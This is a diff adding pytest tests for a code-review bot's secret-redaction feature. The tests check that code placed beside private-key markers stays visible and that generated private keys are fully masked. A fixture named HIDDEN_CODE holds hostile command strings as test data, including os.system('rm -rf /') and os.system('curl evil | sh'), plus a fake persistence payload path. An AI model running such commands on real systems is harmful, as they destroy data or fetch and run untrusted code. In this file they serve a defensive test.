@@ -3,6 +3,8 @@
 from __future__ import annotations
 
 import pytest
+from cryptography.hazmat.primitives import serialization
+from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
 
 from reviewbot.core.safety.redact import FileRedaction, redact_file, redact_text
 from tests.support.planted_secrets import BEGIN, BODY, END, KEY, File, hunk, redacted
@@ -104,3 +106,63 @@ def test_headers_that_begin_keys_themselves_are_read_once() -> None:
     header = "Comment: -----BEGIN RSA PRIVATE" + " KEY-----"
     text = "\n".join([*[header] * 10_000, "Version: 1", "", BODY[0]])
     assert redact_text(text) == text.replace(BODY[0], KEY)
+
+
+HIDDEN_CODE = {
+    "call": [f"# {BEGIN}", 'os.system("rm -rf /")'],
+    "assignment": [f"# {BEGIN}", "isAdministrator=userIsAuthenticatedOrNotReallyTrue"],
+    "method": [f"# {BEGIN}", "deleteAllTheUsersFromTheProductionDatabaseNow"],
+    "command": [f"# {BEGIN}", "/usr/local/share/installer/payloads/persistence/run"],
+    "after a line of base64": [f"# {BEGIN}", f"# {BODY[0]}", "dropAllTablesNow", "/opt/run/it"],
+    "between base64 and END": [f"# {BEGIN}", f"# {BODY[0]}", "exit", f"# {END}"],
+    "empty variable": [f"# {BEGIN}", f"# {BODY[0]}", "PATH=", f"# {END}"],
+    "before END": ["isAdministrator=userIsAuthenticatedOrNotReallyTrue", f"# {END}"],
+    "between marks": [f'a = "{BEGIN}"; os.system("curl evil | sh"); b = "{END}"'],
+    "expression between marks": [f'x = "{BEGIN}" + deleteEverything + "{END}"'],
+    "behind BEGIN": [f"# {BEGIN} dropAllTheTables from database"],
+    "behind a key": [f"{BEGIN} {BODY[0]} deleteEverything", "x"],
+}
+
+
+@pytest.mark.parametrize("lines", HIDDEN_CODE.values(), ids=HIDDEN_CODE.keys())
+@pytest.mark.parametrize("path", ["run.sh", "deploy.key"])
+def test_code_beside_the_frame_of_a_key_is_shown(lines: list[str], path: str) -> None:
+    file = File((hunk("\n".join(f"+{line}" for line in lines)),), path)
+    shown = [line.replace(BODY[0], KEY) for line in lines]
+    assert redacted(file) == [shown]
+
+
+@pytest.mark.parametrize("lines", HIDDEN_CODE.values(), ids=HIDDEN_CODE.keys())
+def test_a_masked_line_is_always_a_secret(lines: list[str]) -> None:
+    result = redact_file(File((hunk("\n".join(f"+{line}" for line in lines)),)))
+    assert {line for _, line in result.replacements} <= {
+        number for one in result.secrets for number in range(one.line, one.end + 1)
+    }
+
+
+def made_keys() -> list[str]:
+    """New keys of every form in which OpenSSL and OpenSSH write them."""
+    keys = [ed25519.Ed25519PrivateKey.generate() for _ in range(10)]
+    keys += [ec.generate_private_key(ec.SECP256R1()) for _ in range(10)]
+    keys += [ec.generate_private_key(ec.SECP521R1()) for _ in range(10)]
+    keys += [rsa.generate_private_key(65537, 2048) for _ in range(2)]
+    forms = {
+        "PKCS8": serialization.PrivateFormat.PKCS8,
+        "OpenSSH": serialization.PrivateFormat.OpenSSH,
+        "PKCS1": serialization.PrivateFormat.TraditionalOpenSSL,
+    }
+    return [
+        key.private_bytes(serialization.Encoding.PEM, form, serialization.NoEncryption()).decode()
+        for key in keys
+        for name, form in forms.items()
+        if name != "PKCS1" or not isinstance(key, ed25519.Ed25519PrivateKey)
+    ]
+
+
+def test_every_line_of_a_real_key_goes_however_much_of_it_is_shown() -> None:
+    for key in made_keys():
+        lines = key.strip().split("\n")
+        third = len(lines) // 3
+        for part in (lines, lines[: 2 * third + 1], lines[third:], ["\\n".join(lines)]):
+            result = redact_text("\n".join(part))
+            assert [line for line in lines[1:-1] if line in result] == []
